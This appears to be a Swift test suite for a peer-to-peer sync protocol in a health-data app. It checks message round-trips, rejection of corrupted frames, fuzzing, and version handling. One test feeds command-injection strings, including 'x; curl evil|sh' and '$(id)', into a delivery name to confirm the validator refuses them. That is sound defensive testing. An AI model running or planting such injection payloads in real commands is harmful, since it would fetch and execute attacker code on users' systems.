import DailveDomain
import DailveStore
import DailveSync
import DailveTestSupport
import Foundation
import Testing

/// Messages between stores, and forged ones from senders that are not stores.
@Suite struct PeerMessageTests {
  private var origin: PeerOrigin {
    PeerOrigin(
      source: "Ada’s Apple\u{A0}Watch", version: "10.1", device: nil, unit: "count/min", word: nil, zone: "Asia/Seoul",
      pushed: 1)
  }

  private var parcel: PeerParcel {
    var parcel = PeerParcel()
    parcel.owners = ["a-1", "b2"]
    parcel.types = ["HKQuantityTypeIdentifierHeartRate", "HKCategoryTypeIdentifierSleepAnalysis"]
    parcel.origins = [origin]
    parcel.details = [[], [1, 2, 3]]
    parcel.texts = ["깊은 잠"]
    let values = [0, -0.0, 1, -7, 61.5, 1e14, 1e15, 1e300, -1e-300, .pi]
    for (index, value) in values.enumerated() {
      parcel.samples.append(
        PeerSample(
          type: index % 2, origin: 0, owner: index / 5, detail: index % 3 - 1, text: -1,
          start: 1_000_000_000 + index * index, duration: index * 60,
          created: index % 2 == 0 ? PeerSample.unknownCreation : 5,
          value: value, isNested: index == 4))
    }
    parcel.samples.append(
      PeerSample(
        type: 1, origin: 0, owner: 0, detail: -1, text: 0, start: -62_000_000_000, duration: -5, created: 0, value: 0,
        isNested: false))
    var batch = PeerBatch(identity: "a-1", kind: "export", name: "내보내기.zip", started: 1, finished: 2)
    batch.exported = 3
    batch.report = "{}"
    batch.characteristics = ["Sex", "F"]
    batch.stays = [PeerBatch.Stay(start: 0, stop: 9, zone: "Europe/Paris")]
    batch.arrivals = [PeerBatch.Arrival(type: "", received: 4)]
    batch.heldElements = [0, .max]
    parcel.batches = [batch]
    parcel.elements = [
      PeerElement(.kept(name: "Audiogram", start: nil), identity: .max, owner: 1, size: 3, body: [1, 2, 3]),
      PeerElement(
        .summary(day: 11_000, energy: 1.5, exercise: nil, stand: 0), identity: 1, owner: 0, size: 0, body: []),
      PeerElement(.file(kind: "route", name: "/a.gpx"), identity: 2, owner: 0, size: 9, body: [9]),
      PeerElement(
        .workout(
          PeerWorkout(
            activity: "HKWorkoutActivityTypeRunning", start: 1, stop: 2, duration: 1, distance: nil, energy: 2,
            average: nil, maximum: nil, routes: 1, origin: 0, isPushed: true, pushedID: "x", namesSource: true)),
        identity: 3, owner: 0, size: 1, body: [0]),
    ]
    parcel.superseded = Array(parcel.samples.prefix(2))
    parcel.deliveries = [
      PeerDelivery(
        id: "20261122T064512.347Z-5f3a9c10", received: 5, token: nil, head: "{}", size: 1, packed: 1, fingerprint: "f",
        batch: "a-1", version: 1, unknown: 0, problem: nil, records: 2)
    ]
    parcel.bodies = [PeerBodyPart(fingerprint: "f", part: 0, bytes: [1])]
    return parcel
  }

  private var requests: [PeerRequest] {
    let place = PeerPlace(.samples, "HKQuantityTypeIdentifierStepCount", source: "iPhone", number: 24_000)
    let sums = [PeerTally](repeating: PeerTally(count: 3, sum: .max), count: PeerOutline.groups)
    return [
      .greet(PeerGreeting(device: "0a", clock: 1, home: PeerHomeZone(zone: "Asia/Seoul", rank: 2), sums: sums)),
      .outline([0, 63]), .digests([place, PeerPlace(.bodies, "delivery_body", number: 255)]),
      .parcel([PeerSelection(place, nil), PeerSelection(place, [1, .max])]), .receive(parcel, sender: "0a"),
    ]
  }

  private var answers: [PeerAnswer] {
    [
      .outline(PeerOutline([PeerPlace(.elements, "workout", number: 7): PeerTally(count: 1, sum: 9)])),
      .digests([[], [1, 2]]), .parcel(parcel), .receipt(PeerReceipt(taken: 3, refused: 1)),
    ]
  }

  @Test func `the values sent equal the values understood`() throws {
    for request in requests { #expect(try PeerRequest(request.bytes) == request) }
    for answer in answers { #expect(try PeerAnswer(answer.bytes) == answer) }
  }

  @Test func `a message that was cut off or changed anywhere is refused`() {
    for bytes in requests.map(\.bytes) + answers.map(\.bytes) {
      for end in 0..<bytes.count {
        #expect(throws: (any Error).self) { try PeerRequest(Array(bytes.prefix(end))) }
        #expect(throws: (any Error).self) { try PeerAnswer(Array(bytes.prefix(end))) }
      }
      for index in bytes.indices {
        var changed = bytes
        changed[index] ^= 0x10
        #expect(throws: (any Error).self) { try PeerRequest(changed) }
        #expect(throws: (any Error).self) { try PeerAnswer(changed) }
      }
    }
  }

  /// Anybody who can compute the checksum can send any content.
  @Test func `no content with a valid checksum causes harm`() async throws {
    let store = try PeerWorld.store()
    var random = SeededGenerator(seed: 7)
    for request in requests {
      let inner = Array(request.bytes.dropFirst(5).dropLast(8))
      for _ in 0..<400 {
        var bytes = inner
        for _ in 0...Int.random(in: 0...3, using: &random) {
          bytes[Int.random(in: 0..<bytes.count, using: &random)] = UInt8.random(in: 0...255, using: &random)
        }
        if Bool.random(using: &random) { bytes = Array(bytes.prefix(Int.random(in: 0...bytes.count, using: &random))) }
        let sealed = PeerFrame.seal { writer in for byte in bytes { writer.put(byte: byte) } }
        // The reply must be an answer or an error: the service neither stops nor applies half of a message.
        _ = try? await PeerService.answer(sealed, by: store, now: PeerWorld.clock)
      }
    }
    let contents = try await PeerWorld.contents(store)
    #expect(contents["dirty"] == [])
    #expect(try await PeerWorld.exchange(store, try PeerWorld.store()).isEqual)
  }

  @Test(arguments: ["x; curl evil|sh", "", "a b", "\u{1B}[2J", "$(id)", String(repeating: "a", count: 65)])
  func `a delivery whose name no delivery has`(name: String) throws {
    var delivery = try #require(parcel.deliveries.first)
    #expect(delivery.isPlausible)
    // The name appears in suggested commands.
    delivery.id = name
    #expect(!delivery.isPlausible)
  }

  @Test func `counts beyond what there is set nothing aside`() {
    let frames: [[UInt8]] = [
      [2] + [0xFF, 0xFF, 0xFF, 0xFF, 0x0F], [3] + [0xFF, 0xFF, 0x0F], [4, 0, 0xFF, 0xFF, 0x3F],
      [5, 1, 0x61, 0, 0xFF, 0xFF, 0xFF, 0x7F], [2] + [UInt8](repeating: 0xFF, count: 11),
    ]
    for frame in frames {
      let sealed = PeerFrame.seal { writer in for byte in frame { writer.put(byte: byte) } }
      #expect(throws: PeerError.damaged) { try PeerRequest(sealed) }
    }
  }

  @Test func `invalid text is refused`() {
    for text: [UInt8] in [[0xC3], [0xED, 0xA0, 0x80], [0x61, 0x00], [0xF8, 0x88, 0x80, 0x80, 0x80]] {
      let sealed = PeerFrame.seal { writer in
        writer.put(byte: 3)
        writer.put(count: 1)
        writer.put(text)
        writer.put(count: 0)
      }
      #expect(throws: PeerError.damaged) { try PeerRequest(sealed) }
    }
  }

  @Test func `another version is refused with its reason, whatever else it says`() {
    for request in requests {
      var bytes = request.bytes
      bytes[4] = UInt8(PeerGreeting.dialect + 1)
      #expect(throws: PeerError.otherDialect) { try PeerRequest(bytes) }
      #expect(throws: PeerError.otherDialect) { try PeerAnswer(bytes) }
    }
  }

  @Test func `a problem is stored as a word`() {
    let troubles: [PeerError] = [
      .damaged, .otherDialect, .sameStore, .clock(seconds: -75), .unexpectedAnswer, .unreachable, .untrusted, .noKey,
      .answered(status: 500), .busy, .ownStore, .refused(3),
    ]
    for trouble in troubles { #expect(PeerError(code: trouble.code) == trouble) }
    #expect(PeerError(code: "something new") == nil)
  }

  @Test func `data that only a newer version understands stay where they are`() async throws {
    let (home, laptop) = (try PeerWorld.store(), try PeerWorld.store())
    let device = try await home.greeting(clock: 0).device
    var parcel = PeerParcel()
    parcel.batches = [
      PeerBatch(identity: "n-1", kind: "hologram", name: "", started: 1, finished: 2),
      PeerBatch(identity: "n-2", kind: "push", name: "", started: 1, finished: 2),
    ]
    let first = try await laptop.receive(parcel, from: device)
    #expect(first == PeerReceipt(taken: 1, refused: 1))
    var rows = PeerParcel()
    rows.owners = ["n-2", "n-1"]
    rows.types = ["HKQuantityTypeIdentifierStepCount"]
    var newer = origin
    newer.pushed = 99
    rows.origins = [origin, newer]
    for (origin, owner) in [(0, 0), (1, 0), (0, 1)] {
      rows.samples.append(
        PeerSample(
          type: 0, origin: origin, owner: owner, detail: -1, text: -1, start: 1_000_000_000 + owner, duration: 60,
          created: 0, value: 5, isNested: false))
    }
    #expect(try await laptop.receive(rows, from: device) == PeerReceipt(taken: 1, refused: 1))
    #expect(try await laptop.read { try $0.overview() }.readings == 1)
  }
}
